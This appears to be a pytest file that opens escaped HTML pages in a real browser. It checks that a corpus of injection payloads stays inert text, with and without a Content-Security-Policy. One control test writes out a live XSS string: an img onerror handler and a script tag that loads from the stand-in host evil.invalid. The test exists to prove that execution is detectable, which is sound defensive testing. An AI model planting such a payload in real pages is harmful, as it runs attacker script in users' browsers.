"""The corpus in a real browser: pages with and without their policy, pictures opened by themselves, prose of notebooks."""

from __future__ import annotations

import re
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from payloads import ALL, SHORT
from planted import harmless, long_page, lost, page_of, prose_page

from browser import Opened, pages
from evalkit.present.writers.html import escaped

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')
COUNT = """() => Array.from(document.querySelectorAll('*')).map(
    e => e.localName + ' ' + e.getAttributeNames().sort().join(' '))"""


@pytest.fixture(scope="module")
def show() -> Iterator[Any]:
    with pages() as opened:
        yield opened


@pytest.fixture(scope="module")
def planted() -> str:
    return page_of([payload.text for payload in SHORT])


def assert_nothing_ran(opened: Opened) -> None:
    opened.page.wait_for_timeout(150)
    assert opened.dialogs == []
    assert opened.requests == []
    assert [line for line in opened.messages if not line.startswith("debug")] == []
    assert opened.page.evaluate("window.hit") is None
    assert opened.page.evaluate("document.scripts.length") == 0


def elements(opened: Opened) -> Counter[str]:
    return Counter(opened.page.evaluate(COUNT))


@pytest.mark.parametrize("policy", [True, False], ids=["with its policy", "without a policy"])
def test_a_page_full_of_payloads(show: Any, planted: str, policy: bool, tmp_path: Path) -> None:
    assert len(SHORT) > 220
    assert POLICY.search(planted)
    path = tmp_path / "planted.html"
    path.write_text(planted if policy else POLICY.sub("", planted), encoding="utf-8")
    opened = show(path)
    assert_nothing_ran(opened)
    assert lost(SHORT, opened.page.evaluate("document.documentElement.textContent")) == []
    found = elements(opened)
    plain = tmp_path / "harmless.html"
    plain.write_text(page_of(harmless([payload.text for payload in SHORT])), encoding="utf-8")
    expected = elements(show(plain))
    if not policy:
        expected["meta content http-equiv"] -= 1
    assert found == +expected


def test_without_scripts_a_page_reads_the_same(show: Any, planted: str, tmp_path: Path) -> None:
    path = tmp_path / "planted.html"
    path.write_text(planted, encoding="utf-8")
    read = show(path, java_script_enabled=False).page.locator("body").text_content()
    assert lost(SHORT, read) == []


def test_prose_of_a_notebook_runs_nothing(show: Any, tmp_path: Path) -> None:
    """An author's Markdown keeps its marks; what would run or load in it is text."""
    path = tmp_path / "prose.html"
    path.write_text(POLICY.sub("", prose_page([payload.text for payload in SHORT])), encoding="utf-8")
    opened = show(path)
    assert_nothing_ran(opened)
    followed = opened.page.evaluate("Array.from(document.links).map(a => a.protocol)")
    assert set(followed) <= {"file:", "http:", "https:", "mailto:"}
    assert (
        opened.page.evaluate(
            "document.querySelectorAll('img, svg, iframe, form, base, object, embed').length"
        )
        == 0
    )


@pytest.mark.slow
def test_a_page_of_very_long_texts(show: Any, tmp_path: Path) -> None:
    long = [payload for payload in ALL if payload not in SHORT]
    path = tmp_path / "long.html"
    path.write_text(POLICY.sub("", long_page([payload.text for payload in long])), encoding="utf-8")
    opened = show(path)
    assert_nothing_ran(opened)
    assert lost(long, opened.page.evaluate("document.documentElement.textContent")) == []


def test_the_watch_sees_what_runs(show: Any) -> None:
    """The checks above can fail: the same texts, not escaped, run and load."""
    opened = show(
        "<p>x<img src=x onerror='alert(1);window.hit=1'><script src=http://evil.invalid/x></script>"
    )
    opened.page.wait_for_timeout(300)
    assert opened.dialogs == ["1"]
    assert opened.requests == ["http://evil.invalid/x"]
    assert opened.page.evaluate("window.hit") == 1


def test_no_name_turns_the_digits_beside_it_round(show: Any) -> None:
    """Where a number stands behind a name, its digits are drawn from left to right behind it."""
    probe = "".join(
        f"<p>{escaped(payload.text)} <b>1</b><b>2</b><b>3</b></p>"
        for payload in SHORT
        if payload.kind.startswith("turns")
    )
    opened = show(f"<!DOCTYPE html><html lang=ko>{probe}")
    places = opened.page.evaluate(
        "Array.from(document.querySelectorAll('p')).map(p => Array.from(p.querySelectorAll('b')).map(b => b.offsetLeft))"
    )
    assert places
    for one in places:
        assert one == sorted(one)
        assert one[0] > 0
